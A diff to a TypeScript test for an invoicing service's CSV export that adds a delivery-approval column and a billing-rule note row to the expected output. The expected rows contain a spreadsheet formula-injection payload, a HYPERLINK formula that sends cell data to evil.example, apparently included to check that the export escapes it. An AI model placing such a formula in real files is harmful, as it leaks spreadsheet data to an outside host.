@@ -1,3 +1,4 @@
+import { INVOICE_BASIS_RULE } from '../src/collaboration/invoice.service';
 import { FixedClock } from '../src/platform/clock';
 import { XMLParser } from 'fast-xml-parser';
 import {
@@ -40,10 +41,11 @@ describe('CSV exports (item 3)', () => {
     const res = await get(A.accountManager, `/invoices/2027-05.csv?agencyId=${ids.skatteverket}`);
     expect(res.status).toBe(200);
     expect((await res.text()).split('\r\n')).toEqual([
-      'month,agency,kind,reference,description,hours,unit_price_sek,total_sek',
-      `2027-05,Skatteverket,ADD_ON,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","Tilläggstjänst, månadsavgift",,4500.00,4500.00`,
-      '2027-05,Skatteverket,AGENCY_TOTAL,,,,,4500.00',
-      '2027-05,,TOTAL,,,,,4500.00',
+      'month,agency,kind,reference,description,hours,unit_price_sek,total_sek,delivery_approved_on',
+      `2027-05,Skatteverket,ADD_ON,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","Tilläggstjänst, månadsavgift",,4500.00,4500.00,`,
+      '2027-05,Skatteverket,AGENCY_TOTAL,,,,,4500.00,',
+      '2027-05,,TOTAL,,,,,4500.00,',
+      `2027-05,,NOTE,,"${INVOICE_BASIS_RULE}",,,,`,
       '',
     ]);
   });
